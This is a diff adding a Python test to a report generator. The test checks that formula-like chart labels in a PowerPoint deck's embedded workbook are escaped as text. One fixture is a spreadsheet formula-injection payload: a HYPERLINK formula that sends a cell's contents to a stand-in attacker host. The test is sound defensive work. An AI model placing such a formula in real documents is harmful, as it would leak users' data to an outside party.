@@ -377,3 +377,23 @@ def test_the_pdf_pages_render_as_pictures(decks):
         subprocess.run(["pdftoppm", "-r", "110", "-png", str(source), str(prefix)], check=True, timeout=120)
         pictures = sorted(ARTIFACTS.glob(f"quarterly-{quarter}-{lang}-*.png"))
         assert len(pictures) == 7 and all(p.stat().st_size > 10_000 for p in pictures)
+
+
+def test_a_chart_workbook_keeps_a_name_that_looks_like_a_formula_as_text():
+    """PowerPoint's "Edit Data" opens the chart's embedded workbook: a category or series name must not run."""
+    import openpyxl
+
+    from dashboard.report.content import Chart, Deck, Series, Slide
+    from dashboard.report.powerpoint import render
+
+    name = '=HYPERLINK("http://evil.example/?"&A1,"details")'
+    chart = Chart("column", "title", [name, "Vertrieb"], [Series("@SUM(1)", [0.5, 0.25], ["50%", "25%"], "current")],
+                  "share", ("P3",))
+    deck = Deck(Period.parse("2026-Q3"), "en", 10, "Demo AG", "footer",
+                [Slide("topic", "Participation", subtitle="finding", highlights=["one"], chart=chart)])
+    drawn = chart_of(slides(render(deck))[0])
+    assert list(drawn.plots[0].categories) == ["'" + name, "Vertrieb"]
+    book = openpyxl.load_workbook(io.BytesIO(drawn.part.chart_workbook.xlsx_part.blob))
+    cells = [cell for row in book.active.iter_rows() for cell in row if cell.value is not None]
+    assert not [cell.value for cell in cells if cell.data_type == "f"]
+    assert "'@SUM(1)" in [cell.value for cell in cells]
